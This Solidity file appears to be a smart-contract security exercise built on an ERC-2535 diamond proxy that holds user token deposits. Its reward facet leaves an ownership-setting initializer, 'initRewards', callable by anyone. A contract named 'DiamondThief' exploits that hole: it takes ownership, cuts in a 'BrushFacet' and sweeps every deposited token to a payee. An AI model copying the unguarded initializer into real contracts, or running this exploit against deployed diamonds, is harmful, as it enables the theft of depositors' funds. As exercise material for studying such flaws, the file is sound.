// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Token} from "../props/Tokens.sol";

struct FacetCut {
    address facetAddress;
    uint8 action;
    bytes4[] functionSelectors;
}

/// Where a diamond keeps what it knows (ERC-2535).
library DiamondStorage {
    struct Layout {
        mapping(bytes4 => address) facetOf;
        address contractOwner;
        mapping(address => mapping(address => uint256)) deposits;
        uint256 rewardRate;
    }

    function layout() internal pure returns (Layout storage l) {
        bytes32 at = keccak256("diamond.standard.diamond.storage");
        assembly { l.slot := at }
    }
}

interface IDiamondCut {
    function diamondCut(FacetCut[] calldata cuts, address init, bytes calldata data) external;
}

/// Has no code of its own but the way to that of its facets.
contract OpenDiamond {
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(address owner, address cutFacet) {
        DiamondStorage.layout().contractOwner = owner;
        DiamondStorage.layout().facetOf[IDiamondCut.diamondCut.selector] = cutFacet;
        emit OwnershipTransferred(address(0), owner);
    }

    fallback() external payable {
        address facet = DiamondStorage.layout().facetOf[msg.sig];
        require(facet != address(0), "Diamond: Function does not exist");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), facet, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

contract CutFacet is IDiamondCut {
    event DiamondCut(FacetCut[] _diamondCut, address _init, bytes _calldata);

    function diamondCut(FacetCut[] calldata cuts, address init, bytes calldata data) external {
        DiamondStorage.Layout storage l = DiamondStorage.layout();
        require(msg.sender == l.contractOwner, "LibDiamond: Must be contract owner");
        for (uint256 i = 0; i < cuts.length; i++) {
            for (uint256 j = 0; j < cuts[i].functionSelectors.length; j++) {
                l.facetOf[cuts[i].functionSelectors[j]] = cuts[i].facetAddress;
            }
        }
        emit DiamondCut(cuts, init, data);
        if (init == address(0)) return;
        (bool ok, bytes memory why) = init.delegatecall(data);
        if (!ok) assembly { revert(add(why, 32), mload(why)) }
    }
}

/// Keeps what people deposit.
contract DepositFacet {
    event Deposited(address indexed who, address indexed token, uint256 amount);
    event Withdrawn(address indexed who, address indexed token, uint256 amount);

    function deposit(Token token, uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        DiamondStorage.layout().deposits[address(token)][msg.sender] += amount;
        emit Deposited(msg.sender, address(token), amount);
    }

    function withdraw(Token token, uint256 amount) external {
        DiamondStorage.layout().deposits[address(token)][msg.sender] -= amount;
        token.transfer(msg.sender, amount);
        emit Withdrawn(msg.sender, address(token), amount);
    }

    function owner() external view returns (address) {
        return DiamondStorage.layout().contractOwner;
    }
}

/// The next version's rewards. Its initialisation was meant for the cut alone; it is in the list of functions too.
contract RewardFacet {
    event RewardRate(uint256 rate);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    function initRewards(address owner, uint256 rate) external {
        DiamondStorage.Layout storage l = DiamondStorage.layout();
        emit OwnershipTransferred(l.contractOwner, owner);
        (l.contractOwner, l.rewardRate) = (owner, rate);
        emit RewardRate(rate);
    }

    function rewardRate() external view returns (uint256) {
        return DiamondStorage.layout().rewardRate;
    }
}

/// Moves all deposits to the next house, as their owner was told.
contract MigrationFacet {
    event Migrated(address indexed token, address indexed to, uint256 amount);

    function migrate(Token token, address to) external {
        require(msg.sender == DiamondStorage.layout().contractOwner, "not the owner");
        uint256 amount = token.balanceOf(address(this));
        token.transfer(to, amount);
        emit Migrated(address(token), to, amount);
    }
}

contract DiamondHouse {
    address public immutable owner = msg.sender;

    function pay(Token token, address to, uint256 amount) external {
        require(msg.sender == owner, "not the owner");
        token.transfer(to, amount);
    }
}

/// Code for a diamond to run.
contract BrushFacet {
    function brush(Token[] calldata tokens, address payee) external {
        for (uint256 i = 0; i < tokens.length; i++) tokens[i].transfer(payee, tokens[i].balanceOf(address(this)));
    }
}

/// Initialises again, cuts its own code in, and has it run.
contract DiamondThief {
    bool private inside;

    function run(address diamond, Token[] calldata tokens, address payee) external {
        if (!inside) {
            inside = true;
            RewardFacet(diamond).initRewards(address(this), 0);
            FacetCut[] memory cuts = new FacetCut[](1);
            bytes4[] memory selectors = new bytes4[](1);
            selectors[0] = BrushFacet.brush.selector;
            cuts[0] = FacetCut(address(new BrushFacet()), 0, selectors);
            IDiamondCut(diamond).diamondCut(cuts, address(0), "");
        }
        BrushFacet(diamond).brush(tokens, payee);
    }
}
